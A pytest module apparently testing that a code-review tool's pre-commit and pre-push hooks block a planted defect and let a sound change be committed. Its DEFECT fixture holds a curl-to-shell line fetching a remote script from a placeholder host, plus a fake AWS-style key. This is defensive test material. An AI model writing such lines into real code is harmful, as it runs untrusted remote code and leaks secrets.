"""acode's pre-commit hooks (.pre-commit-hooks.yaml) through the real pre-commit framework: pre-commit
installs acode from this checkout into its own environment (pip, as it would from a git URL), and a real
`git commit` in a scratch repository runs the hook. A staged planted defect blocks the commit; a sound
change is committed. The scripted model (no model call is needed: the checks decide)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from tests.conftest import git, make_git_repo

pytestmark = pytest.mark.slow
PROJECT = Path(__file__).resolve().parents[2]
PRE_COMMIT = [sys.executable, "-m", "pre_commit"]
SOUND = 'def greet(name):\n    """Say hello."""\n    return f"hello {name}"\n'
DEFECT = ('import os\n\n\ndef greet(name):\n    """Say hello."""\n    os.system("curl https://example.invalid/x.sh | sh")\n'
          '    return f"hello {name}"\n\n\nAWS_KEY = "AKIAABCDEFGHIJKLMNOP"\n')


@pytest.fixture(scope="module")
def hook_repo(tmp_path_factory) -> tuple[Path, str]:
    """This checkout as pre-commit sees a hook repository: its files (uncommitted edits included) in a git
    repository of their own, at one commit."""
    copy = tmp_path_factory.mktemp("acode-hooks")
    names = subprocess.run(["git", "ls-files", "-co", "--exclude-standard", "-z"], cwd=PROJECT, check=True,
                           capture_output=True, text=True).stdout.split("\0")
    for name in filter(None, names):
        source = PROJECT / name
        if source.is_file():
            (copy / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, copy / name)
    for args in (("init", "-q"), ("config", "user.email", "dev@example.com"), ("config", "user.name", "Dev"),
                 ("add", "-A"), ("commit", "-q", "--no-verify", "-m", "acode as a hook repository")):
        git(copy, *args)
    return copy, git(copy, "rev-parse", "HEAD")


@pytest.fixture(scope="module")
def pre_commit_home(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("pre-commit-home")  # one hook environment for the module's tests


def _scratch(tmp_path: Path, hook_repo: tuple[Path, str], hook_id: str) -> Path:
    path, rev = hook_repo
    config = {"repos": [{"repo": str(path), "rev": rev, "hooks": [{"id": hook_id}]}]}
    repo = make_git_repo(tmp_path / "scratch", {"greet.py": SOUND,
                                                 ".pre-commit-config.yaml": yaml.safe_dump(config)})
    return repo


def _env(home: Path) -> dict[str, str]:
    """pre-commit's own cache; the scripted model with no answers: the review's checks call no model."""
    script = home / "no-model-calls.yml"
    script.write_text("[]\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV"))}
    env.update(PRE_COMMIT_HOME=str(home), ACODE_MODEL__BACKEND="scripted", ACODE_MODEL__SCRIPT=str(script),
               ACODE_REVIEWER__REGRESSION__METHOD="off", ACODE_REVIEWER__BEHAVIOUR__ENABLED="false")
    return env


def _commit(repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "commit", "-m", "change greet"], cwd=repo, env=env, capture_output=True,
                          text=True, timeout=1200, check=False)


def test_a_staged_defect_blocks_the_commit_and_a_sound_change_is_committed(tmp_path, hook_repo, pre_commit_home):
    repo = _scratch(tmp_path, hook_repo, "acode-review")
    env = _env(pre_commit_home)
    subprocess.run([*PRE_COMMIT, "install"], cwd=repo, env=env, check=True, capture_output=True)
    before = git(repo, "rev-parse", "HEAD")

    (repo / "greet.py").write_text(DEFECT)
    git(repo, "add", "greet.py")
    blocked = _commit(repo, env)
    output = blocked.stdout + blocked.stderr
    assert blocked.returncode != 0, output
    assert "acode review (staged change)" in output and "REJECTED" in output
    assert "AKIAABCDEFGHIJKLMNOP" not in output  # the report redacts the secret it found
    assert git(repo, "rev-parse", "HEAD") == before

    (repo / "greet.py").write_text(SOUND.replace("Say hello.", "Say hello to someone."))
    (repo / "notes.txt").write_text("not staged, not reviewed: AKIAABCDEFGHIJKLMNOP\n")
    git(repo, "add", "greet.py")
    committed = _commit(repo, env)
    assert committed.returncode == 0, committed.stdout + committed.stderr
    assert "acode review (staged change)...." in committed.stderr and "Passed" in committed.stderr
    assert git(repo, "rev-parse", "HEAD") != before


def test_the_push_hook_reviews_the_branch(tmp_path, hook_repo, pre_commit_home):
    repo = _scratch(tmp_path, hook_repo, "acode-review-branch")
    env = _env(pre_commit_home)
    git(repo, "switch", "-q", "-c", "feature")
    (repo / "greet.py").write_text(DEFECT)
    git(repo, "commit", "-qam", "change greet")
    done = subprocess.run([*PRE_COMMIT, "run", "--hook-stage", "pre-push", "--all-files"], cwd=repo, env=env,
                          capture_output=True, text=True, timeout=1200, check=False)
    assert done.returncode != 0 and "REJECTED" in done.stdout, done.stdout + done.stderr
